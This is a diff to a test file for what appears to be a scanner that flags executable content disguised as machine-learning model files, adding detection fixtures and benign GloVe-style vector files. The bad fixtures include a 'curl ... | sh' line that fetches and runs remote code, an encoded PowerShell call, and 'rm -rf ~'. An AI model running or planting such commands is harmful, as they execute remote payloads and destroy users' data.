@@ -447,6 +447,8 @@ def bad_programs():
     yield "MODEL.PT", ELF, "MDL302", "in capitals"
     yield "model.onnx", b"#!/bin/sh\nrm -rf ~\n", "MDL302", "a script"
     yield "model.pkl", b"import os\nos.system('id')\n", "MDL302", "Python"
+    yield "model.ckpt", b"@echo off\r\npowershell -enc AAAA\r\n", "MDL302", "a batch file"
+    yield "weights.h5", b"\n  curl http://203.0.113.5/x | sh\n", "MDL302", "a shell script"
     yield ("llama.llamafile", b"MZqFpD='\n" + bytes(500) + ELF, "MDL302", "an APE program")
     yield "model.pte", pte("aten::add", "evil::run"), "MDL007", "an operator of somebody's"
     yield "save.pte", pte("aten::save"), {"MDL006", "MDL007"}, "an operator that writes files"
@@ -511,6 +513,11 @@ def good():
     yield "net-0000.params", mxnet(), (), "MXNet"
     yield "net-0001.params", mxnet(shape=(6,), data=12, kind=2), (), "halves"
     yield "news.bin", word2vec(), (), "word2vec"
+    yield ("glove.txt", b"".join(b"w%d %s\n" % (i, b" ".join(b"%.4f" % (i * 0.001 + j)
+                                                            for j in range(50)))
+                                 for i in range(60)), (), "GloVe: vectors in text")
+    yield ("wiki.vec", b"60 50\n" + b"".join(b"w%d %s\n" % (i, b" ".join(
+        b"%.4f" % (i * 0.001 + j) for j in range(50))) for i in range(60)), (), "the same, counted")
     yield "model.pte", pte("aten::add", "aten::mm.out", "quantized_decomposed::choose_qparams",
                            delegates=["XnnpackBackend"], inline=[b"xnnpack"]), (), "ExecuTorch"
     yield "model.ptl", ptl("aten::conv2d", "prepacked::conv2d_clamp_run"), (), "torch mobile"
